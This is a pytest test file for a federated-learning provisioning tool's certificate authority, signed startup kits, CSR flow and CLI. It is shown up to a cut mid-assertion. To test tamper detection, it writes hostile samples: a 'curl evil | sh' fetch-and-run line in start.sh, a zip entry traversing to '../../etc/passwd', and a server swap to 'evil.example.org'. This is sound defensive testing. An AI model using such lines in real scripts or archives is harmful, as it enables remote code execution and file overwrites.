"""Provisioning: CA and certificates (checked with the real openssl), kits, growth, CSR flow."""

from __future__ import annotations

import datetime as dt
import json
import os
import shutil
import stat
import subprocess
import zipfile
from pathlib import Path

import pytest

from fedctl.cli.main import main
from fedctl.errors import ConfigError, NotFound, UsageError
from fedctl.provision import (
    Admin,
    KitError,
    ProjectError,
    Site,
    add_admin,
    add_participant,
    add_site,
    assemble_kit,
    default_authorization,
    load_authorization,
    load_kit,
    load_project,
    poc_project,
    provision,
    request_certificate,
    sign_csr,
    verify_kit,
)
from fedctl.provision.identity import Identity

ROOT = Path(__file__).resolve().parents[1]
EXAMPLE = ROOT / "provisioning" / "example.yml"
OPENSSL = shutil.which("openssl")
needs_openssl = pytest.mark.skipif(OPENSSL is None, reason="openssl not installed")

NAMES = [
    "fl.example.org",
    "hospital-a",
    "hospital-b",
    "hospital-c",
    "admin@example.org",
    "researcher@hospital-a.org",
]


@pytest.fixture(scope="module")
def ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The example project provisioned once; tests that change kits work on copies."""
    root = tmp_path_factory.mktemp("prov") / "ws"
    provision(EXAMPLE, root)
    return root


def copy_kit(ws: Path, name: str, tmp_path: Path) -> Path:
    dest = tmp_path / name
    shutil.copytree(ws / "kits" / name, dest)
    return dest


def openssl(*args: str) -> str:
    assert OPENSSL
    res = subprocess.run([OPENSSL, *args], capture_output=True, text=True, timeout=30)
    assert res.returncode == 0, res.stderr
    return res.stdout


def snapshot(root: Path) -> dict[str, tuple[int, int]]:
    return {
        str(p.relative_to(root)): (p.stat().st_mtime_ns, p.stat().st_ino)
        for p in sorted(root.rglob("*"))
        if p.is_file() and p.name != ".lock"
    }


# --------------------------------------------------------------------------- layout


def test_workspace_layout(ws: Path) -> None:
    state = ws / "state"
    assert stat.S_IMODE(state.stat().st_mode) == 0o700
    assert stat.S_IMODE((state / "ca.key").stat().st_mode) == 0o600
    assert (state / "ca.pem").is_file()
    assert load_project(state / "project.yml") == load_project(EXAMPLE)
    issued = json.loads((state / "issued.json").read_text())
    assert [c["name"] for c in issued["certificates"]] == NAMES
    assert {c["key"] for c in issued["certificates"]} == {"workspace"}
    for c in issued["certificates"]:
        assert (state / "issued" / f"{c['serial']}.pem").is_file()
    kits = ws / "kits"
    assert sorted(p.name for p in kits.iterdir() if p.is_dir()) == sorted(NAMES)
    assert sorted(p.name for p in kits.glob("*.zip")) == sorted(f"{n}.zip" for n in NAMES)
    assert not list(ws.parent.glob(".ws.tmp-*"))


def test_kit_contents_per_type(ws: Path) -> None:
    kits = ws / "kits"
    common = {"MANIFEST.json", "MANIFEST.sig", "cert.pem", "key.pem", "kit.json", "rootCA.pem"}
    scripts = {"start.sh", "stop.sh"}
    server = kits / "fl.example.org"
    assert {p.name for p in (server / "startup").iterdir()} == common | scripts
    assert {p.name for p in (server / "local").iterdir()} == {
        "authorization.yaml",
        "resources.yaml",
    }
    site = kits / "hospital-a"
    assert {p.name for p in (site / "startup").iterdir()} == common | scripts
    assert {p.name for p in (site / "local").iterdir()} == {
        "authorization.yaml",
        "privacy.yaml",
        "resources.yaml",
    }
    admin = kits / "admin@example.org"
    assert {p.name for p in (admin / "startup").iterdir()} == common
    for kit in (server, site, admin):
        assert (kit / "transfer").is_dir() and not list((kit / "transfer").iterdir())
        assert (kit / "README.txt").is_file()
    start = (site / "startup" / "start.sh").read_text()
    assert 'client start --kit "$KIT"' in start
    assert os.access(site / "startup" / "start.sh", os.X_OK)
    assert 'server start --kit "$KIT"' in (server / "startup" / "start.sh").read_text()
    assert 'client stop --kit "$KIT"' in (site / "startup" / "stop.sh").read_text()


def test_kit_config(ws: Path) -> None:
    cfg = json.loads((ws / "kits" / "hospital-a" / "startup" / "kit.json").read_text())
    assert cfg == {
        "kit_version": 1,
        "project": "example-project",
        "participant": {"name": "hospital-a", "type": "site", "org": "hospital-a", "role": None},
        "server": {"host": "fl.example.org", "port": 8002},
        "labels": {"region": "eu-west"},
    }
    server = json.loads((ws / "kits" / "fl.example.org" / "startup" / "kit.json").read_text())
    assert server["listen"] == {"host": "0.0.0.0", "port": 8002}
    kit = load_kit(ws / "kits" / "researcher@hospital-a.org")
    assert kit.identity == Identity("researcher@hospital-a.org", "hospital-a", "admin", "lead")
    assert kit.server_address == "fl.example.org:8002"
    assert load_kit(ws / "kits" / "fl.example.org").listen_address == "0.0.0.0:8002"


def test_key_files_are_0600_and_ca_key_never_in_a_kit(ws: Path) -> None:
    ca_key = (ws / "state" / "ca.key").read_bytes()
    ca_body = b"".join(ca_key.splitlines()[1:-1])
    for name in NAMES:
        kit = ws / "kits" / name
        assert stat.S_IMODE((kit / "startup" / "key.pem").stat().st_mode) == 0o600
        for p in kit.rglob("*"):
            if p.is_file():
                assert ca_body not in b"".join(p.read_bytes().splitlines()), p
        with zipfile.ZipFile(ws / "kits" / f"{name}.zip") as zf:
            for info in zf.infolist():
                assert ca_body not in b"".join(zf.read(info).splitlines())
        assert stat.S_IMODE((ws / "kits" / f"{name}.zip").stat().st_mode) == 0o600


def test_zip_keeps_modes_and_unpacks_to_a_verified_kit(ws: Path, tmp_path: Path) -> None:
    with zipfile.ZipFile(ws / "kits" / "hospital-b.zip") as zf:
        modes = {i.filename: (i.external_attr >> 16) for i in zf.infolist()}
    assert stat.S_IMODE(modes["hospital-b/startup/key.pem"]) == 0o600
    assert stat.S_IMODE(modes["hospital-b/startup/start.sh"]) == 0o755
    assert stat.S_ISDIR(modes["hospital-b/transfer/"])
    if shutil.which("unzip"):
        subprocess.run(
            ["unzip", "-q", str(ws / "kits" / "hospital-b.zip"), "-d", str(tmp_path / "u")],
            check=True,
        )
        kit = tmp_path / "u" / "hospital-b"
        assert stat.S_IMODE((kit / "startup" / "key.pem").stat().st_mode) == 0o600
        verify_kit(kit)
    kit = assemble_kit(ws / "kits" / "hospital-b.zip", out_dir=tmp_path / "a" / "hospital-b")
    assert kit.name == "hospital-b"
    assert stat.S_IMODE(kit.key_path.stat().st_mode) == 0o600


def test_local_policy_templates_parse(ws: Path) -> None:
    import yaml

    local = ws / "kits" / "hospital-a" / "local"
    policy = load_authorization(local / "authorization.yaml")
    assert policy == default_authorization()
    resources = yaml.safe_load((local / "resources.yaml").read_text())
    assert resources == {"version": 1, "max_concurrent_jobs": 2, "gpus": [0, 1]}
    privacy = yaml.safe_load((local / "privacy.yaml").read_text())
    assert privacy == {"version": 1, "filters": [], "require": {}}


def test_default_authorization_is_conservative() -> None:
    p = default_authorization()
    org = "hospital-a"
    member = Identity("m@a.org", org, "admin", "member")
    lead = Identity("l@a.org", org, "admin", "lead")
    other_lead = Identity("o@a.org", org, "admin", "lead")
    org_admin = Identity("oa@a.org", org, "admin", "org_admin")
    foreign = Identity("f@b.org", "hospital-b", "admin", "lead")
    pa = Identity("pa@x.org", "x", "admin", "project_admin")
    site = Identity("hospital-a", org, "site")
    assert p.allows("view", member, lead) and not p.allows("submit", member)
    assert not p.allows("download", member, lead) and not p.allows("manage", member, member)
    assert p.allows("submit", lead) and p.allows("manage", lead, lead)
    assert not p.allows("manage", lead, other_lead)
    assert p.allows("manage", org_admin, lead) and not p.allows("manage", org_admin, foreign)
    assert not p.allows("submit", org_admin)
    assert all(p.allows(r, pa, foreign) for r in ("submit", "byoc", "manage", "view", "download"))
    assert not p.allows("view", site, lead)


def test_authorization_validation(tmp_path: Path) -> None:
    f = tmp_path / "authorization.yaml"
    f.write_text("version: 1\nroles:\n  lead: {submit: yes please}\n")
    with pytest.raises(Exception, match=r"roles\.lead\.submit: must be true or false"):
        load_authorization(f)
    f.write_text("version: 1\nroles:\n  member: {manage: all}\n")
    with pytest.raises(Exception, match=r"roles\.member\.manage: must be one of none, own, org"):
        load_authorization(f)
    f.write_text("version: 1\nroles:\n  owner: {}\n")
    with pytest.raises(Exception, match=r"roles\.owner: unknown role"):
        load_authorization(f)


def test_policy_files_refuse_aliases_and_duplicate_keys(tmp_path: Path) -> None:
    f = tmp_path / "authorization.yaml"
    f.write_text("version: 1\nroles:\n  lead: &r {submit: true}\n  member: *r\n")
    with pytest.raises(ConfigError) as info:
        load_authorization(f)
    assert str(info.value) == (
        f"{f}:3: YAML anchors and aliases are not allowed (found anchor '&r')"
    )
    f.write_text("version: 1\nroles:\n  lead: {submit: false}\n  lead: {submit: true}\n")
    with pytest.raises(ConfigError) as info:
        load_authorization(f)
    assert str(info.value) == f"{f}:4: roles.lead: duplicate key (first on line 3)"


# --------------------------------------------------------------------------- certificates


@needs_openssl
def test_every_certificate_passes_openssl_verify(ws: Path) -> None:
    ca = ws / "state" / "ca.pem"
    for name in NAMES:
        kit = ws / "kits" / name / "startup"
        assert (kit / "rootCA.pem").read_bytes() == ca.read_bytes()
        out = openssl("verify", "-CAfile", str(ca), str(kit / "cert.pem"))
        assert out.strip().endswith(": OK")
    # purpose checks: the server may serve, sites and admins may only be clients
    server = ws / "kits" / "fl.example.org" / "startup" / "cert.pem"
    openssl("verify", "-CAfile", str(ca), "-purpose", "sslserver", str(server))
    site = ws / "kits" / "hospital-a" / "startup" / "cert.pem"
    openssl("verify", "-CAfile", str(ca), "-purpose", "sslclient", str(site))
    res = subprocess.run(
        [OPENSSL, "verify", "-CAfile", str(ca), "-purpose", "sslserver", str(site)],  # type: ignore[list-item]
        capture_output=True,
        text=True,
    )
    assert res.returncode != 0


@needs_openssl
def test_openssl_shows_subject_sans_usages_validity(ws: Path) -> None:
    now = dt.datetime.now(dt.timezone.utc)  # noqa: UP017

    def text(name: str) -> str:
        return openssl(
            "x509",
            "-noout",
            "-text",
            "-nameopt",
            "RFC2253",
            "-in",
            str(ws / "kits" / name / "startup" / "cert.pem"),
        )

    def not_after(out: str) -> dt.datetime:
        line = next(ln for ln in out.splitlines() if "Not After" in ln)
        raw = line.split(":", 1)[1].strip()
        return dt.datetime.strptime(raw, "%b %d %H:%M:%S %Y %Z").replace(tzinfo=dt.timezone.utc)  # noqa: UP017

    server = text("fl.example.org")
    assert "Subject: OU=server,O=example-org,CN=fl.example.org" in server
    assert "Issuer: O=example-org,CN=example-project root CA" in server
    assert "DNS:fl.example.org, DNS:fl-internal.example.org, IP Address:10.0.0.5" in server
    assert "TLS Web Server Authentication, TLS Web Client Authentication" in server
    assert "CA:FALSE" in server and "Digital Signature" in server
    assert "ecdsa-with-SHA256" in server and "NIST CURVE: P-256" in server
    assert "X509v3 Subject Key Identifier" in server
    assert "X509v3 Authority Key Identifier" in server
    assert abs((not_after(server) - now) - dt.timedelta(days=365)) < dt.timedelta(minutes=5)

    site = text("hospital-a")
    assert "Subject: OU=site,O=hospital-a,CN=hospital-a" in site
    assert "TLS Web Client Authentication" in site and "Server Authentication" not in site
    assert "Subject Alternative Name" not in site

    admin = text("researcher@hospital-a.org")
    assert "Subject: role=lead,OU=admin,O=hospital-a,CN=researcher@hospital-a.org" in admin
    assert "email:researcher@hospital-a.org" in admin

    ca = openssl("x509", "-noout", "-text", "-in", str(ws / "state" / "ca.pem"))
    assert "CA:TRUE, pathlen:0" in ca
    assert "Certificate Sign, CRL Sign" in ca
    assert abs((not_after(ca) - now) - dt.timedelta(days=3650)) < dt.timedelta(minutes=5)


@needs_openssl
def test_manifest_signature_checks_with_openssl(ws: Path, tmp_path: Path) -> None:
    startup = ws / "kits" / "hospital-c" / "startup"
    pub = tmp_path / "ca.pub"
    pub.write_text(openssl("x509", "-in", str(startup / "rootCA.pem"), "-pubkey", "-noout"))
    out = openssl(
        "dgst",
        "-sha256",
        "-verify",
        str(pub),
        "-signature",
        str(startup / "MANIFEST.sig"),
        str(startup / "MANIFEST.json"),
    )
    assert "Verified OK" in out


def test_lifetimes_are_configurable_and_leaves_never_outlive_the_ca(tmp_path: Path) -> None:
    from cryptography import x509

    project = poc_project(1)
    project = type(project)(**{**project.__dict__, "ca_valid_days": 30, "cert_valid_days": 30})
    res = provision(project, tmp_path / "ws")
    ca = x509.load_pem_x509_certificate((res.ca_cert).read_bytes())
    leaf = x509.load_pem_x509_certificate(load_kit(res.kit_dir("site-1")).cert_path.read_bytes())
    assert leaf.not_valid_after_utc <= ca.not_valid_after_utc
    assert (ca.not_valid_after_utc - ca.not_valid_before_utc).days == 30


@pytest.mark.parametrize("key_type", ["ecdsa-p384", "rsa-3072"])
def test_other_key_types(tmp_path: Path, key_type: str) -> None:
    from cryptography import x509
    from cryptography.hazmat.primitives.asymmetric import ec, rsa

    project = poc_project(["s1"])
    project = type(project)(
        **{**project.__dict__, "key_type": key_type, "participants": project.participants[:1]}
    )
    res = provision(project, tmp_path / "ws")
    kit = verify_kit(res.kit_dir("s1"))
    cert = x509.load_pem_x509_certificate(kit.cert_path.read_bytes())
    key = cert.public_key()
    if key_type == "rsa-3072":
        assert isinstance(key, rsa.RSAPublicKey) and key.key_size == 3072
    else:
        assert isinstance(key, ec.EllipticCurvePublicKey) and key.curve.name == "secp384r1"
    if OPENSSL:
        assert (
            openssl("verify", "-CAfile", str(res.ca_cert), str(kit.cert_path))
            .strip()
            .endswith("OK")
        )


# --------------------------------------------------------------------------- kit verification


def test_verify_kit_accepts_every_fresh_kit(ws: Path) -> None:
    for name in NAMES:
        kit = verify_kit(ws / "kits" / name, ca_cert=ws / "state" / "ca.pem")
        assert kit.name == name


def test_modified_startup_file_is_named(ws: Path, tmp_path: Path) -> None:
    kit = copy_kit(ws, "hospital-a", tmp_path)
    cfg = kit / "startup" / "kit.json"
    cfg.write_text(cfg.read_text().replace("fl.example.org", "evil.example.org"))
    with pytest.raises(KitError) as info:
        verify_kit(kit)
    assert str(info.value) == (
        f"{cfg}: modified since the kit was signed (SHA-256 differs from MANIFEST.json)"
    )


def test_missing_extra_and_unsigned_files_are_named(ws: Path, tmp_path: Path) -> None:
    kit = copy_kit(ws, "hospital-b", tmp_path)
    (kit / "startup" / "stop.sh").unlink()
    with pytest.raises(KitError, match=r"startup/stop\.sh: missing \(it is listed in the signed"):
        verify_kit(kit)

    kit = copy_kit(ws, "hospital-c", tmp_path)
    (kit / "startup" / "notes.txt").write_text("hi")
    with pytest.raises(
        KitError, match=r"startup/notes\.txt: extra file not in the signed manifest"
    ):
        verify_kit(kit)

    kit = copy_kit(ws, "admin@example.org", tmp_path)
    (kit / "startup" / "MANIFEST.json").unlink()
    with pytest.raises(KitError, match=r"startup/MANIFEST\.json: missing: this kit is not signed"):
        verify_kit(kit)

    kit = copy_kit(ws, "fl.example.org", tmp_path)
    m = kit / "startup" / "MANIFEST.json"
    m.write_text(m.read_text().replace('"manifest_version": 1', '"manifest_version": 1 '))
    with pytest.raises(KitError, match=r"MANIFEST\.json: signature does not verify against"):
        verify_kit(kit)

    kit = copy_kit(ws, "researcher@hospital-a.org", tmp_path)
    (kit / "startup" / "key.pem").unlink()
    with pytest.raises(KitError, match=r"startup/key\.pem: missing \(the participant's private"):
        verify_kit(kit)


def test_local_edits_and_transfer_files_do_not_break_the_kit(ws: Path, tmp_path: Path) -> None:
    kit = copy_kit(ws, "hospital-a", tmp_path)
    auth = kit / "local" / "authorization.yaml"
    auth.write_text(auth.read_text().replace("submit: true", "submit: false"))
    (kit / "local" / "privacy.yaml").unlink()
    (kit / "local" / "my-notes.txt").write_text("site-owned")
    (kit / "transfer" / "job-1").mkdir()
    (kit / "README.txt").write_text("edited")
    assert verify_kit(kit).name == "hospital-a"
    assert not load_authorization(auth).allows(
        "submit", Identity("l@a.org", "hospital-a", "admin", "lead")
    )


def test_foreign_or_swapped_ca_is_refused(ws: Path, tmp_path: Path) -> None:
    other = provision(poc_project(["hospital-a"], name="other"), tmp_path / "other")
    # The whole kit of another project: self-consistent, refused when the CA is pinned.
    with pytest.raises(KitError, match=r"rootCA\.pem: kit belongs to another CA"):
        verify_kit(other.kit_dir("hospital-a"), ca_cert=ws / "state" / "ca.pem")
    # Our kit with another project's CA certificate dropped in.
    kit = copy_kit(ws, "hospital-a", tmp_path)
    shutil.copy(other.ca_cert, kit / "startup" / "rootCA.pem")
    with pytest.raises(KitError) as info:
        verify_kit(kit)
    assert str(info.value) == (
        f"{kit / 'startup' / 'rootCA.pem'}: is not the CA this kit was signed for "
        "(foreign or replaced CA certificate)"
    )
    # Our kit with another project's certificate and key: the manifest hash catches it.
    kit = copy_kit(ws, "hospital-b", tmp_path)
    other_kit = other.kit_dir("hospital-a")
    shutil.copy(other_kit / "startup" / "cert.pem", kit / "startup" / "cert.pem")
    with pytest.raises(KitError, match=r"startup/cert\.pem: modified since the kit was signed"):
        verify_kit(kit)


def test_key_must_match_and_be_private(ws: Path, tmp_path: Path) -> None:
    kit = copy_kit(ws, "hospital-a", tmp_path)
    shutil.copy(ws / "kits" / "hospital-b" / "startup" / "key.pem", kit / "startup" / "key.pem")
    with pytest.raises(KitError, match=r"key\.pem: does not match startup/cert\.pem"):
        verify_kit(kit)
    kit = copy_kit(ws, "hospital-c", tmp_path)
    os.chmod(kit / "startup" / "key.pem", 0o644)
    with pytest.raises(
        KitError, match=r"key\.pem: private key is readable by others \(mode 0644\)"
    ):
        verify_kit(kit)


def test_expired_kit_is_refused(ws: Path) -> None:
    later = dt.datetime.now(dt.timezone.utc) + dt.timedelta(days=400)  # noqa: UP017
    with pytest.raises(KitError, match=r"startup/cert\.pem: expired on \d{4}-\d\d-\d\d; ask"):
        verify_kit(ws / "kits" / "hospital-a", now=later)


def test_not_a_kit(tmp_path: Path) -> None:
    with pytest.raises(NotFound, match=r": no such kit folder$"):  # exit 4, like any missing path
        verify_kit(tmp_path / "nope")
    with pytest.raises(KitError, match=r": not a fedctl kit \(no startup/ folder\)$"):
        verify_kit(tmp_path)


# --------------------------------------------------------------------------- re-provisioning


def test_reprovision_is_idempotent(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    provision(EXAMPLE, root)
    before = snapshot(root)
    again = provision(EXAMPLE, root)
    assert not again.ca_created
    assert [k.status for k in again.kits] == ["unchanged"] * len(NAMES)
    assert snapshot(root) == before


def test_force_rebuilds_kits_under_the_same_ca(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    provision(EXAMPLE, root)
    ca = (root / "state" / "ca.pem").read_bytes()
    ca_key = (root / "state" / "ca.key").read_bytes()
    old_key = (root / "kits" / "hospital-a" / "startup" / "key.pem").read_bytes()
    res = provision(EXAMPLE, root, force=True)
    assert [k.status for k in res.kits] == ["rebuilt"] * len(NAMES)
    assert (root / "state" / "ca.pem").read_bytes() == ca
    assert (root / "state" / "ca.key").read_bytes() == ca_key
    assert (root / "kits" / "hospital-a" / "startup" / "key.pem").read_bytes() != old_key
    verify_kit(root / "kits" / "hospital-a", ca_cert=ca)
    issued = json.loads((root / "state" / "issued.json").read_text())
    assert len(issued["certificates"]) == 2 * len(NAMES)
    assert not [p for p in (root / "kits").iterdir() if p.name.startswith(".")]


def test_changed_project_marks_kits_stale_and_grows(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    provision(EXAMPLE, root)
    text = EXAMPLE.read_text().replace("port: 8002", "port: 9443")
    text += "  - type: site\n    name: hospital-d\n    org: hospital-d\n"
    changed = tmp_path / "changed.yml"
    changed.write_text(text)
    res = provision(changed, root)
    status = {k.name: k.status for k in res.kits}
    assert status["hospital-d"] == "created"
    assert status["hospital-a"] == "stale"
    assert "server address" in res.kit("hospital-a").note
    assert load_kit(res.kit_dir("hospital-d")).server_port == 9443
    assert load_kit(res.kit_dir("hospital-a")).server_port == 8002  # kept until --force
    res = provision(changed, root, force=True)
    assert load_kit(res.kit_dir("hospital-a")).server_port == 9443


def test_removed_participant_is_kept_with_a_warning(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    provision(EXAMPLE, root)
    smaller = tmp_path / "smaller.yml"
    smaller.write_text(EXAMPLE.read_text().replace("name: hospital-c", "name: hospital-z"))
    res = provision(smaller, root)
    assert res.kit("hospital-c").status == "unchanged"
    assert res.kit("hospital-z").status == "created"
    assert any(
        "'hospital-c' is in the workspace but not in the project file" in w for w in res.warnings
    )


def test_provision_into_an_existing_empty_folder(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    root.mkdir()
    res = provision(poc_project(1), root)
    assert res.ca_created and verify_kit(res.kit_dir("site-1")).name == "site-1"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ws"]


def test_cli_stays_light() -> None:
    """`fedctl --help` must not pay for cryptography, grpc or PyYAML."""
    import sys

    code = (
        "import sys, fedctl.cli.main; "
        "print(','.join(m for m in ('cryptography', 'grpc', 'yaml') if m in sys.modules))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == ""


def test_workspace_of_another_project_or_not_a_workspace(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    provision(EXAMPLE, root)
    with pytest.raises(
        UsageError, match=r"workspace belongs to project 'example-project', not 'poc'"
    ):
        provision(poc_project(1), root)
    junk = tmp_path / "junk"
    junk.mkdir()
    (junk / "file").write_text("x")
    with pytest.raises(UsageError, match=r"exists and is not a fedctl workspace"):
        provision(EXAMPLE, junk)


def test_add_site_and_admin_under_the_same_ca(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    provision(EXAMPLE, root)
    ca = root / "state" / "ca.pem"
    res = add_site(root, "hospital-d", "hospital-d")
    assert [(k.name, k.status) for k in res.kits] == [("hospital-d", "created")]
    verify_kit(root / "kits" / "hospital-d", ca_cert=ca)
    res = add_admin(root, "auditor@example.org", "example-org", "member")
    kit = verify_kit(root / "kits" / "auditor@example.org", ca_cert=ca)
    assert kit.identity == Identity("auditor@example.org", "example-org", "admin", "member")
    project = load_project(root / "state" / "project.yml")
    assert project.participant("hospital-d") and project.participant("auditor@example.org")
    assert provision(EXAMPLE, root).kit("hospital-d").status == "unchanged"
    with pytest.raises(ProjectError) as info:
        add_site(root, "Hospital-A", "x")
    assert str(info.value) == (
        "cannot add site 'Hospital-A': the name is already used by site 'hospital-a' in "
        "project 'example-project'"
    )
    with pytest.raises(ProjectError, match=r"^cannot add admin 'x@y\.org': role must be one of"):
        add_participant(root, Admin("x@y.org", "y", "root"))
    with pytest.raises(ProjectError, match=r"^cannot add site 'bad name': name site names are"):
        add_participant(root, Site("bad name", "y"))
    with pytest.raises(NotFound, match=r"no such workspace"):
        add_site(tmp_path / "nowhere", "s", "o")


# --------------------------------------------------------------------------- site-held keys


def test_csr_flow_yields_a_verified_kit_without_the_key_leaving_the_site(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    provision(EXAMPLE, root)
    site_dir = tmp_path / "at-site"
    req = request_certificate("hospital-e", org="hospital-e", out_dir=site_dir)
    assert stat.S_IMODE(req.key_path.stat().st_mode) == 0o600
    key_bytes = req.key_path.read_bytes()

    signed = sign_csr(root, req.csr_path)
    assert signed.added and signed.identity == Identity("hospital-e", "hospital-e", "site")
    # Nothing the admin holds contains the site's key.
    assert not (signed.kit_dir / "startup" / "key.pem").exists()
    with zipfile.ZipFile(signed.zip_path) as zf:
        assert "hospital-e/startup/key.pem" not in zf.namelist()
        assert all(zf.read(n) != key_bytes for n in zf.namelist())
    issued = json.loads((root / "state" / "issued.json").read_text())["certificates"]
    assert issued[-1]["name"] == "hospital-e" and issued[-1]["key"] == "site"

    kit = assemble_kit(signed.zip_path, key=req.key_path, out_dir=site_dir / "kit")
    assert kit.identity.name == "hospital-e"
    assert kit.key_path.read_bytes() == key_bytes
    assert stat.S_IMODE(kit.key_path.stat().st_mode) == 0o600
    verify_kit(kit.root, ca_cert=root / "state" / "ca.pem")
    if OPENSSL:
        openssl("verify", "-CAfile", str(root / "state" / "ca.pem"), str(kit.cert_path))

    # Re-provisioning never re-keys a site that holds its own key.
    res = provision(EXAMPLE, root, force=True)
    assert res.kit("hospital-e").status == "site-key"
    assert verify_kit(kit.root).name == "hospital-e"


def test_csr_for_an_admin_in_the_project(tmp_path: Path) -> None:
    project = poc_project(1)
    root = tmp_path / "ws"
    provision(project, root)
    req = request_certificate(
        "lead@poc.local", org="poc", type="admin", role="lead", out_dir=tmp_path / "me"
    )
    with pytest.raises(UsageError, match=r"already has a kit with a key made in this workspace"):
        sign_csr(root, req.csr_path)
    signed = sign_csr(root, req.csr_path, force=True)
    assert not signed.added
    kit = assemble_kit(signed.kit_dir, key=req.key_path, out_dir=tmp_path / "me" / "kit")
    assert kit.identity.role == "lead"
    wrong = request_certificate(
        "member@poc.local", org="poc", type="admin", role="lead", out_dir=tmp_path / "x"
    )
    with pytest.raises(
        UsageError,
        match=r"requests admin 'member@poc.local' \(org poc, role lead\), "
        r"but the project has admin 'member@poc.local' \(org poc, role member\)",
    ):
        sign_csr(root, wrong.csr_path)


def test_signing_the_same_csr_twice_needs_force(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    provision(poc_project(1), root)
    req = request_certificate("site-9", org="poc", out_dir=tmp_path / "s")
    first = sign_csr(root, req.csr_path)
    issued = root / "state" / "issued.json"
    before = issued.read_bytes()
    with pytest.raises(UsageError) as info:
        sign_csr(root, req.csr_path)
    assert str(info.value) == (
        f"site 'site-9' already has a live certificate (serial {first.serial}, valid until "
        f"{first.not_after[:10]}); pass --force to issue another"
    )
    assert issued.read_bytes() == before
    again = sign_csr(root, req.csr_path, force=True)
    assert again.serial != first.serial and not again.added
    records = json.loads(issued.read_text())["certificates"]
    assert [r["serial"] for r in records if r["name"] == "site-9"] == [first.serial, again.serial]
    assert (root / "state" / "issued" / f"{again.serial}.pem").is_file()
    assemble_kit(again.zip_path, key=req.key_path, out_dir=tmp_path / "kit")


def test_a_key_with_a_live_certificate_is_not_signed_for_another_name(tmp_path: Path) -> None:
    from cryptography.hazmat.primitives import serialization

    from fedctl.provision import certs

    root = tmp_path / "ws"
    provision(poc_project(1), root)
    req = request_certificate("site-9", org="poc", out_dir=tmp_path / "s")
    sign_csr(root, req.csr_path)
    key = certs.load_key(req.key_path.read_bytes())
    other = certs.create_csr(Identity("site-8", "poc", "site"), key)
    with pytest.raises(UsageError, match=r"^CSR: its key already has a live certificate for site"):
        sign_csr(root, other.public_bytes(serialization.Encoding.PEM))
    assert sign_csr(root, other.public_bytes(serialization.Encoding.PEM), force=True).added


def test_an_expired_certificate_is_renewed_without_force(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    provision(poc_project(1), root)
    req = request_certificate("site-9", org="poc", out_dir=tmp_path / "s")
    sign_csr(root, req.csr_path)
    issued = root / "state" / "issued.json"
    data = json.loads(issued.read_text())
    data["certificates"][-1]["not_after"] = "2001-01-01T00:00:00Z"
    issued.write_text(json.dumps(data))
    assert sign_csr(root, req.csr_path).identity.name == "site-9"


def test_assemble_refuses_wrong_key_and_bad_zips(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    provision(poc_project(1), root)
    req = request_certificate("site-9", org="poc", out_dir=tmp_path / "s")
    other = request_certificate("site-8", org="poc", out_dir=tmp_path / "s")
    signed = sign_csr(root, req.csr_path)
    with pytest.raises(KitError, match=r"site-8\.key: does not match the certificate in"):
        assemble_kit(signed.zip_path, key=other.key_path, out_dir=tmp_path / "k")
    assert not (tmp_path / "k").exists()
    with pytest.raises(UsageError, match=r"has no private key \(a kit signed from a CSR\)"):
        assemble_kit(signed.zip_path, out_dir=tmp_path / "k")
    evil = tmp_path / "evil.zip"
    with zipfile.ZipFile(evil, "w") as zf:
        zf.writestr("kit/../../etc/passwd", "x")
    with pytest.raises(KitError, match=r"unsafe path"):
        assemble_kit(evil, key=req.key_path, out_dir=tmp_path / "k")
    with pytest.raises(UsageError, match=r"already exists; not overwriting \(a private key"):
        request_certificate("site-9", org="poc", out_dir=tmp_path / "s")


# --------------------------------------------------------------------------- CLI


def test_cli_provision_then_grow(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    ws = tmp_path / "ws"
    assert main(["provision", str(EXAMPLE), "-o", str(ws)]) == 0
    out = capsys.readouterr().out
    assert "CA       " in out and "(new)" in out
    assert "created   site   hospital-a" in out
    assert main(["provision", str(EXAMPLE), "-o", str(ws), "--json"]) == 0
    data = json.loads(capsys.readouterr().out)["result"]
    assert {k["status"] for k in data["kits"]} == {"unchanged"}
    assert main(["provision", "-o", str(ws), "--add-site", "hospital-d", "--org", "hd"]) == 0
    assert "hospital-d" in capsys.readouterr().out
    rc = main(["provision", "-o", str(ws), "--add-admin", "x@y.org", "--org", "y"])
    assert rc == 2
    assert capsys.readouterr().err == (
        "error: --role is required with --add-admin (one of project_admin, org_admin, lead, "
        "member)\n"
    )
    rc = main(
        ["provision", "-o", str(ws), "--add-admin", "x@y.org", "--org", "y", "--role", "boss"]
    )
    assert rc == 2
    assert capsys.readouterr().err.startswith("error: cannot add admin 'x@y.org': role must be")
    assert main(["provision", "-o", str(ws)]) == 2
    assert "missing PROJECT_YML" in capsys.readouterr().err


def test_cli_cert_and_kit_commands(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    ws = tmp_path / "ws"
    assert main(["provision", str(EXAMPLE), "-o", str(ws)]) == 0
    site = tmp_path / "site"
    assert main(["cert", "request", "hospital-x", "--org", "hx", "-o", str(site)]) == 0
    assert main(["cert", "sign", str(site / "hospital-x.csr"), "-w", str(ws)]) == 0
    out = capsys.readouterr().out
    assert "fedctl kit assemble hospital-x.zip --key hospital-x.key" in out
    kit = site / "kit"
    rc = main(
        [
            "kit",
            "assemble",
            str(ws / "kits" / "hospital-x.zip"),
            "--key",
            str(site / "hospital-x.key"),
            "-o",
            str(kit),
        ]
    )
    assert rc == 0
    capsys.readouterr()
    assert main(["kit", "verify", str(kit), "--json"]) == 0
    info = json.loads(capsys.readouterr().out)["result"]
    assert info["name"] == "hospital-x" and info["verified"] is True
    assert info["server"] == "fl.example.org:8002"
    (kit / "startup" / "start.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    assert main(["kit", "verify", str(kit)]) == 2
    err = capsys.readouterr().err
    assert err == (
